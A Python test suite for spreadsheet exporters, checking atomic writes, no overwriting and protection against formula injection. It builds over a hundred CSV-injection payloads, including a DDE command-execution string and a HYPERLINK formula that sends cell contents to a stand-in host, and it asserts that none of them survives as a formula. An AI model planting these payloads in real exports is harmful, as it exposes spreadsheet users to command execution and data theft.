"""Exports: whole or not at all, never over another, and nothing in them a spreadsheet would run."""

import csv
import errno
import io
import itertools
import os
import shutil
import subprocess
from collections.abc import Iterator, Sequence
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from station.domain.bundle import Before, Evidence, Witness, read_evidence
from station.interchange.cells import guarded
from station.interchange.exporters import EXPORTERS
from station.interchange.json_lines import write_payloads
from station.ports import Exporter, StationFault

STARTS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u00a0=",
    "\ufeff=",
    "a;=",
    "a\n=",
    'a;"=',
]
COMMANDS = ["cmd|' /C calc'!A0", "1+1", 'HYPERLINK("http://x.example/?"&A1,"go")', "SUM(A1:A9)", "DDE(0;1;2)", "-2+3"]
PAYLOADS = [start + command for start, command in itertools.product(STARTS, COMMANDS)]
HEADER = ("单号 waybill", "barcode", "note")
ZEROS = "00367901234567890323"

exporters = pytest.mark.parametrize("exporter", EXPORTERS.values(), ids=EXPORTERS.keys())


def read_back(path: Path) -> list[list[str]]:
    """Read a table as a careful program would: what is in its cells, as text."""
    if path.suffix == ".csv":
        return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    assert {cell.data_type for row in sheet for cell in row} <= {"s", "n", "inlineStr"}
    assert all(cell.value is None for row in sheet for cell in row if cell.data_type == "n")
    return [[openpyxl.utils.escape.unescape(cell.value or "") for cell in row] for row in sheet]


def test_there_are_a_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) >= 100


@exporters
def test_no_cell_is_a_formula_whatever_the_label_said(exporter: Exporter, tmp_path: Path) -> None:
    path = tmp_path / f"log{exporter.suffix}"
    exporter.write(path, HEADER, [(payload, ZEROS, payload) for payload in PAYLOADS])
    rows = read_back(path)
    assert len(rows) == len(PAYLOADS) + 1
    assert tuple(rows[0]) == HEADER
    for payload, row in zip(PAYLOADS, rows[1:], strict=True):
        assert row[1] == ZEROS
        if exporter.suffix == ".csv":
            assert row[0].lstrip()[0] not in "=+-@＝＋－＠"
            assert row[0].replace("'", "") == payload.replace("'", "")
        else:
            assert row[0] == payload


@exporters
def test_ordinary_text_comes_back_as_it_was(exporter: Exporter, tmp_path: Path) -> None:
    rows = [["上海，“引号”：！《》", "0690", 'say "hi", you'], ["", "a|b|c", "x\u202ey"], ["3-4", "a@b", "1e5"]]
    path = tmp_path / f"log{exporter.suffix}"
    exporter.write(path, HEADER, rows)
    assert read_back(path)[1:] == rows


@exporters
def test_characters_no_file_can_hold_do_not_stop_the_export(exporter: Exporter, tmp_path: Path) -> None:
    path = tmp_path / f"log{exporter.suffix}"
    exporter.write(path, ("a", "b", "c"), [("\ud800", "\x00\x1d", "\uffff"), ("x" * 40_000, "", "")])
    rows = read_back(path)
    assert rows[1][0] == "\\ud800"
    assert rows[1][1] == "\x00\x1d"
    assert len(rows) == 3


@exporters
def test_an_export_is_never_written_over_another(exporter: Exporter, tmp_path: Path) -> None:
    path = tmp_path / f"log{exporter.suffix}"
    path.write_text("evidence")
    with pytest.raises(StationFault, match="not overwritten"):
        exporter.write(path, HEADER, [])
    assert path.read_text() == "evidence"


@exporters
def test_a_file_that_appears_meanwhile_is_kept_too(exporter: Exporter, tmp_path: Path) -> None:
    path = tmp_path / f"log{exporter.suffix}"

    def rows() -> Iterator[Sequence[str]]:
        path.write_text("evidence")
        yield ("a", "b", "c")

    with pytest.raises(StationFault, match="not overwritten"):
        exporter.write(path, HEADER, rows())
    assert path.read_text() == "evidence"
    assert list(tmp_path.iterdir()) == [path]


@exporters
def test_a_file_appears_whole_or_not_at_all(exporter: Exporter, tmp_path: Path) -> None:
    path = tmp_path / f"log{exporter.suffix}"

    def rows() -> Iterator[Sequence[str]]:
        yield ("a", "b", "c")
        assert not path.exists()
        raise OSError(errno.ENOSPC, "No space left on device")

    with pytest.raises(StationFault, match="No space left"):
        exporter.write(path, HEADER, rows())
    assert list(tmp_path.iterdir()) == []


@exporters
def test_the_same_rows_give_the_same_bytes(exporter: Exporter, tmp_path: Path) -> None:
    first, second = tmp_path / f"1{exporter.suffix}", tmp_path / f"2{exporter.suffix}"
    for path in (first, second):
        exporter.write(path, HEADER, [("SF1", ZEROS, "ok")])
    assert first.read_bytes() == second.read_bytes()


@exporters
def test_a_missing_folder_is_said_so(exporter: Exporter, tmp_path: Path) -> None:
    with pytest.raises(StationFault, match="could not be written"):
        exporter.write(tmp_path / "gone" / f"log{exporter.suffix}", HEADER, [])


def test_a_stick_without_links_gets_its_file_by_renaming(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(self: Path, target: Path) -> None:
        raise OSError(errno.EPERM, "Operation not permitted")

    monkeypatch.setattr(Path, "hardlink_to", refuse)
    path = tmp_path / "log.csv"
    EXPORTERS["csv"].write(path, HEADER, [])
    assert [file.name for file in tmp_path.iterdir()] == ["log.csv"]


def test_csv_begins_with_a_bom_and_ends_lines_with_crlf(tmp_path: Path) -> None:
    path = tmp_path / "log.csv"
    EXPORTERS["csv"].write(path, ["a", "b"], [["1", "2"]])
    assert path.read_bytes() == b'\xef\xbb\xbf"a","b"\r\n"1","2"\r\n'


def test_the_header_of_a_workbook_is_frozen(tmp_path: Path) -> None:
    path = tmp_path / "log.xlsx"
    EXPORTERS["xlsx"].write(path, HEADER, [])
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width > len(HEADER[0])


@given(st.text())
def test_a_guard_adds_apostrophes_and_nothing_else(text: str) -> None:
    assert guarded(text).replace("'", "") == text.replace("'", "")
    assert not guarded(text).lstrip(" \u00a0").startswith(tuple("=+-@\t\r\n＝＋－＠"))


def test_a_bundle_holds_the_payloads_byte_for_byte(tmp_path: Path) -> None:
    path = tmp_path / "shift.jsonl"
    payloads = ['{"at":"x","body":{"note":"=1+1 深 \u2028"}}'.encode(), b'{"at":"y"}']
    evidence = Evidence(Before(2, "ab" * 32, (b"\x01" * 32,)), ("note\n",), (Witness("D-07", 4, "cd" * 32),))
    write_payloads(path, payloads, evidence)
    lines = path.read_bytes().split(b"\n")
    assert lines[1:3] == payloads
    assert read_evidence(lines) == evidence


def test_a_bundle_without_evidence_is_the_payloads_alone(tmp_path: Path) -> None:
    path = tmp_path / "shift.jsonl"
    write_payloads(path, [b'{"at":1}', b'{"at":2}'])
    assert path.read_bytes() == b'{"at":1}\n{"at":2}\n'


@pytest.mark.slow
@pytest.mark.parametrize(
    ("form", "reading", "keeps_zeros"),
    [
        ("xlsx", None, True),
        ("csv", None, False),  # quoted or not, LibreOffice and Excel take digits for a number unless told otherwise
        ("csv", "44,34,76,1,,0,true", True),  # "quoted field as text"
        ("csv", "59,34,76,1", False),  # set to semicolons
        ("csv", "9,34,76,1", False),  # set to tabs
        ("csv", "44/59/9,34,76,1,,0,false,true", False),
    ],
)
def test_libreoffice_sees_no_formula_however_it_is_set(
    form: str, reading: str | None, keeps_zeros: bool, tmp_path: Path
) -> None:
    office = shutil.which("soffice") or shutil.which("libreoffice")
    if office is None:
        pytest.skip("needs LibreOffice: apt-get install libreoffice-calc")
    path = tmp_path / f"log.{form}"
    EXPORTERS[form].write(path, HEADER, [(payload, ZEROS, "x") for payload in PAYLOADS])
    command = [office, f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless"]
    command += [f"--infilter=Text - txt - csv (StarCalc):{reading}"] if reading else []
    command += ["--convert-to", "fods", "--outdir", str(tmp_path), str(path)]
    subprocess.run(command, check=True, capture_output=True, timeout=180, env=os.environ | {"HOME": str(tmp_path)})
    sheet = (tmp_path / "log.fods").read_text(encoding="utf-8")
    assert "table:formula" not in sheet
    assert sheet.count('office:value-type="string"') > len(PAYLOADS)
    assert (sheet.count(f">{ZEROS}<") == len(PAYLOADS)) is keeps_zeros
